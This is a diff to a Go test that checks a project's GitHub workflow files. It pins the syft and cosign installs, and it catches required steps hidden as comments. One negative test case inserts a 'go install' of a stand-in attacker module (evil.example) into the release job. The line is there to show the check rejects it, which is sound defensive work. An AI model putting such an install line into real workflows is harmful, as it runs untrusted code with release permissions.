@@ -17,7 +17,7 @@ var (
 
 	releaseLines = regexp.MustCompile(`^(on:|push: \{ tags: \["v\*"\] \}|needs: test|with: \{ go-version: \d+\.\d+\.\d+, cache: false \}` +
 		`|permissions: \{ contents: write, id-token: write, attestations: write \}|with: \{ fetch-depth: 0, persist-credentials: false \}` +
-		`|run: go install [a-z0-9./]+@v\d+\.\d+\.\d+|with: \{ version: v\d+\.\d+\.\d+, args: release --clean \}` +
+		`|run: go install (` + regexp.QuoteMeta(syft) + `|` + regexp.QuoteMeta(cosign) + `)|with: \{ version: v\d+\.\d+\.\d+, args: release --clean \}` +
 		`|env: \{ GITHUB_TOKEN: "\$\{\{ secrets\.GITHUB_TOKEN \}\}" \}|with: \{ subject-checksums: dist/checksums\.txt \})$`)
 	testLines = regexp.MustCompile(`^(on:|push: \{ branches: \[main\] \}|pull_request:|schedule: \[\{ cron: "[0-9 *]+" \}\]|strategy:|fail-fast: false` +
 		`|matrix: \{ os: \[[a-z, -]+\], go: \[stable, oldstable\] \}|runs-on: (\$\{\{ matrix\.os \}\}|macos-latest)|shell: bash|if: runner\.os != 'Windows'` +
@@ -25,15 +25,22 @@ var (
 		`|run: go run golang\.org/x/vuln/cmd/govulncheck@v\d+\.\d+\.\d+ \./\.\.\.|run: go get -u -t \./\.\.\. && go mod tidy && \./scripts/test)$`)
 )
 
+// The programs that the job with the right to write installs.
+const (
+	syft   = "github.com/anchore/syft/cmd/syft@v1.18.1"
+	cosign = "github.com/sigstore/cosign/v3/cmd/cosign@v3.1.3"
+)
+
 // workflowFaults returns the lines of a workflow that are not allowed, and what is missing.
 func workflowFaults(name, text string) (faults []string) {
+	text = regexp.MustCompile(`(?m)^ *#.*\n`).ReplaceAllString(text, "")
 	own, writes, reads, checkouts, kept := testLines, 0, 0, 0, 0
 	if name == "release.yml" {
 		own = releaseLines
 	}
 	for raw := range strings.Lines(text) {
 		line := strings.TrimPrefix(strings.TrimSpace(raw), "- ")
-		if line == "" || strings.HasPrefix(line, "#") {
+		if line == "" {
 			continue
 		}
 		switch {
@@ -64,8 +71,10 @@ func workflowFaults(name, text string) (faults []string) {
 	if name == "release.yml" && !slices.Equal(regexp.MustCompile(`(?m)^  [a-z]+:$`).FindAllString(text, -1), []string{"  test:", "  release:"}) {
 		faults = append(faults, "jobs")
 	}
-	for _, want := range []string{"needs: test", "run: ./scripts/test\n", "run: ./scripts/release-check\n", "actions/attest-build-provenance@", "subject-checksums: dist/checksums.txt"} {
-		if name == "release.yml" && !strings.Contains(text, want) {
+	bare := regexp.MustCompile(` #.*`).ReplaceAllString(text, "")
+	for _, want := range []string{"needs: test", "run: ./scripts/test\n", "run: ./scripts/release-check\n", "actions/attest-build-provenance@", "subject-checksums: dist/checksums.txt",
+		"run: go install " + syft, "run: go install " + cosign} {
+		if name == "release.yml" && !strings.Contains(bare, want) {
 			faults = append(faults, "without "+want)
 		}
 	}
@@ -121,6 +130,14 @@ func TestWorkflows(t *testing.T) {
 		{"a machine of somebody", "release.yml", "ubuntu-latest", "self-hosted"},
 		{"no tests", "release.yml", "    needs: test\n", ""},
 		{"no provenance", "release.yml", "dist/checksums.txt", "README.md"},
+		{"tests as a comment", "release.yml", step, "      # - run: ./scripts/test\n"},
+		{"checks as a comment", "release.yml", "- run: ./scripts/release-check", "# - run: ./scripts/release-check"},
+		{"a release without tests, as a comment", "release.yml", "    needs: test\n", "    # needs: test\n"},
+		{"provenance as a comment", "release.yml", "- uses: actions/attest", "# - uses: actions/attest"},
+		{"checksums as a comment", "release.yml", "with: { subject-checksums", "# with: { subject-checksums"},
+		{"checks in a comment", "release.yml", "      - run: ./scripts/release-check\n", "      - run: ./scripts/test # run: ./scripts/release-check\n"},
+		{"no signature", "release.yml", "      - run: go install github.com/sigstore/cosign/v3/cmd/cosign@v3.1.3 # the signature\n", ""},
+		{"a program of somebody", "release.yml", step, step + "      - run: go install evil.example/x/y@v1.0.0\n"},
 		{"a third job", "release.yml", "  release:\n", "  more:\n    runs-on: ubuntu-latest\n  release:\n"},
 	} {
 		changed := strings.Replace(texts[tt.file], tt.old, tt.changed, 1)
